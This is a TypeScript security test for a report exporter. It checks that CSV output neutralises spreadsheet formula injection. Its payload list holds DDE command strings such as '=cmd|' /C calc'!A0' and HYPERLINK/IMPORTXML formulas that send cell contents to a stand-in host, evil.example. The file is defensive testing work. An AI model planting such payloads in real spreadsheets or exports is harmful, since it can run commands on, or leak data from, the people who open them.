/** What a spreadsheet would take for a formula is text in every table we export; read back as a spreadsheet reads it. */
import { parse } from 'csv-parse/sync';
import { csvOf } from '../../src/backend/handlers/report/csv';
import { canarySoc, CLIENTS } from './support/canaries';
import { newFolder, startSoc } from './support/soc';
import { securityRow } from './support/matrix';

const LEADS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULAS = ['=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', ' =1+1', '=HYPERLINK("http://evil.example?x="&A1,"click")', '=IMPORTXML("http://evil.example","//a")', '"=1+1', '=1+1";=2+2', 'a,=1+1', 'a\n=1+1', '=\u00001', '-2+3+cmd|\' /C calc\'!A0', '\u00a0=1+1'];
const rowsOf = (text: string): string[][] => parse(text, { relax_quotes: false, skip_empty_lines: true }) as string[][];
const dangerous = (cell: string): boolean => LEADS.some(l => cell.startsWith(l)) || /^\s+[=+@-]/.test(cell);

securityRow(13, ({ proves, say }) => {
  proves('cells parsed back: none begins like a formula, none spills into another, nothing is lost', () => {
    const columns = [{ name: 'name', title: '=TITLE()', kind: 'text', description: '' }, { name: 'other', title: 'Other', kind: 'text', description: '' }, { name: 'n', title: 'N', kind: 'number', description: '' }];
    const section = { id: 'x', columns, rows: FORMULAS.map(name => ({ name, other: name, n: -5 })) } as unknown as Parameters<typeof csvOf>[0];
    const [head, ...cells] = rowsOf(csvOf(section));
    expect(head!.filter(dangerous)).toEqual([]);
    expect(cells).toHaveLength(FORMULAS.length);
    cells.forEach((row, i) => {
      expect(row).toHaveLength(3);
      for (const cell of row.slice(0, 2)) { expect([FORMULAS[i], dangerous(cell)]).toEqual([FORMULAS[i], false]); expect(cell.endsWith(FORMULAS[i]!)).toBe(true); }
      // A number stays one: a negative count is no formula.
      expect(row[2]).toBe('-5');
    });
  });

  proves('over the wire: every table of a report about hostile names', async () => {
    const folder = newFolder('formulas');
    const client = CLIENTS[0]!;
    const soc = await startSoc({ data: folder, clients: [client], soc: canarySoc(folder, { days: 40, clients: [client], text: (canary, what) => `=cmd|'${what} ${canary}'!A0` }) });
    try {
      const list = JSON.parse((await soc.plugin.callResource('report', { query: `client=${client.id}&month=2026-10&format=json` }, soc.client(client))).body) as { sections: { id: string; rows: Record<string, unknown>[] }[] };
      let cells = 0, neutralised = 0;
      for (const { id } of list.sections) {
        const { status, body } = await soc.plugin.callResource('report', { query: `client=${client.id}&month=2026-10&format=csv&table=${id}` }, soc.client(client));
        expect([id, status]).toEqual([id, 200]);
        for (const row of rowsOf(body)) for (const cell of row) { cells++; if (cell.startsWith('\'=')) neutralised++; if (Number.isNaN(Number(cell))) expect([id, cell, dangerous(cell)]).toEqual([id, cell, false]); }
      }
      expect(neutralised).toBeGreaterThan(0);
      say(`${cells} cells of ${list.sections.length} tables, ${neutralised} neutralised`);
    } finally { await soc.stop(); }
  }, 120_000);
});
